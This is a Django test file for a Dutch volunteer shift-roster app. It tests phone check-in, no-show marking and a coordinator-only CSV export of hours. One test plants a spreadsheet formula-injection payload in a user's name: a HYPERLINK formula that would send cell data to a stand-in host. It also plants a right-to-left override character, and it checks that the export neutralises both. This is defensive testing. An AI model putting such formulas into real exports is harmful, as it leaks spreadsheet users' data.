"""Signing in from the phone (from 30 minutes before), no-shows, and hours per month as CSV."""

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from django.urls import reverse

from rooster.aanwezigheid import (
    inschrijving_inchecken,
    inschrijving_uitchecken,
    niet_gekomen_markeren,
    uren_per_vrijwilliger,
)
from rooster.jobs import niet_gekomen_job
from rooster.services import RoosterFout, inschrijving_maken
from tests.rooster.conftest import AMS, dienst_maken

BEGIN = datetime(2026, 12, 1, 9, 0, tzinfo=AMS)


@pytest.fixture
def dienst(world):
    return dienst_maken(world["centrum"], BEGIN)


def test_sign_in_opens_thirty_minutes_before(world, dienst):
    inschrijving = inschrijving_maken(dienst_id=dienst.pk, user=world["anouk"])
    world["clock"].set(BEGIN - timedelta(minutes=31))
    with pytest.raises(RoosterFout, match="vanaf 08:30"):
        inschrijving_inchecken(inschrijving_id=inschrijving.pk, user=world["anouk"])
    world["clock"].set(BEGIN - timedelta(minutes=30))
    assert inschrijving_inchecken(inschrijving_id=inschrijving.pk, user=world["anouk"]).status == "aanwezig"
    with pytest.raises(RoosterFout):
        inschrijving_inchecken(inschrijving_id=inschrijving.pk, user=world["anouk"])


def test_sign_in_button_on_the_phone_page(client, world, dienst):
    inschrijving = inschrijving_maken(dienst_id=dienst.pk, user=world["anouk"])
    client.force_login(world["anouk"])
    assert "Ik ben er" not in client.get(reverse("rooster:overzicht")).content.decode()
    world["clock"].set(BEGIN - timedelta(minutes=10))
    assert "Ik ben er" in client.get(reverse("rooster:overzicht")).content.decode()
    response = client.post(reverse("rooster:inchecken", args=[inschrijving.pk]), follow=True)
    assert "U bent ingecheckt" in response.content.decode()
    world["clock"].set(BEGIN + timedelta(hours=2))
    response = client.post(reverse("rooster:uitchecken", args=[inschrijving.pk]), follow=True)
    assert "Dank u wel" in response.content.decode()
    client.force_login(world["bram"])
    assert client.post(reverse("rooster:inchecken", args=[inschrijving.pk])).status_code == 404


def test_no_shows_are_marked_after_the_shift(world, dienst):
    gekomen = inschrijving_maken(dienst_id=dienst.pk, user=world["anouk"])
    weg = inschrijving_maken(dienst_id=dienst.pk, user=world["bram"])
    world["clock"].set(BEGIN)
    inschrijving_inchecken(inschrijving_id=gekomen.pk, user=world["anouk"])
    assert niet_gekomen_markeren() == 0  # the shift is still on
    world["clock"].set(BEGIN + timedelta(hours=3, minutes=1))
    assert niet_gekomen_job() == 1
    weg.refresh_from_db()
    gekomen.refresh_from_db()
    assert (weg.status, gekomen.status) == ("niet_gekomen", "aanwezig")


def test_hours_per_volunteer_per_month_as_csv_for_the_coordinator_only(client, world, dienst):
    a = inschrijving_maken(dienst_id=dienst.pk, user=world["anouk"])
    b = inschrijving_maken(dienst_id=dienst.pk, user=world["bram"])
    world["clock"].set(BEGIN)
    inschrijving_inchecken(inschrijving_id=a.pk, user=world["anouk"])
    inschrijving_inchecken(inschrijving_id=b.pk, user=world["bram"])
    world["clock"].set(BEGIN + timedelta(hours=1, minutes=30))
    inschrijving_uitchecken(inschrijving_id=b.pk, user=world["bram"])
    rows = uren_per_vrijwilliger(werkplaats=world["centrum"], maand=date(2026, 12, 1))
    assert [(v, u) for v, _a, u in rows] == [("Anouk", 3.0), ("Bram", 1.5)]
    assert uren_per_vrijwilliger(werkplaats=world["centrum"], maand=date(2026, 11, 1)) == []
    url = reverse("rooster:uren_csv", args=[world["centrum"].pk])
    client.force_login(world["karin"])
    response = client.get(url, {"maand": "2026-12"})
    lines = response.content.decode().splitlines()
    assert response["Content-Type"].startswith("text/csv")
    # Semicolons, as a Dutch spreadsheet opens them; the decimal comma needs no quoting then.
    assert lines[0] == "Voornaam;Achternaam;Uren" and lines[1].startswith("Anouk;") and lines[1].endswith(";3,00")
    assert client.get(url, {"maand": "december"}).status_code == 400
    client.force_login(world["anouk"])
    assert client.get(url, {"maand": "2026-12"}).status_code == 403


def test_a_name_that_is_a_formula_comes_out_as_text_in_the_hours_export(client, world, dienst):
    world["anouk"].first_name = '=HYPERLINK("https://example.com/?d="&A1;"klik")'
    world["anouk"].last_name = "\u202eeilatI"  # right-to-left override: would read "Italie" reversed
    world["anouk"].save()
    a = inschrijving_maken(dienst_id=dienst.pk, user=world["anouk"])
    world["clock"].set(BEGIN)
    inschrijving_inchecken(inschrijving_id=a.pk, user=world["anouk"])
    client.force_login(world["karin"])
    content = client.get(reverse("rooster:uren_csv", args=[world["centrum"].pk]), {"maand": "2026-12"}).content.decode()
    row = next(csv.reader(io.StringIO(content), delimiter=";"))  # header
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))[1:]
    assert row == ["Voornaam", "Achternaam", "Uren"]
    assert rows[0][0].startswith("'=HYPERLINK(")
    assert "\u202e" not in content and rows[0][1] == "eilatI"
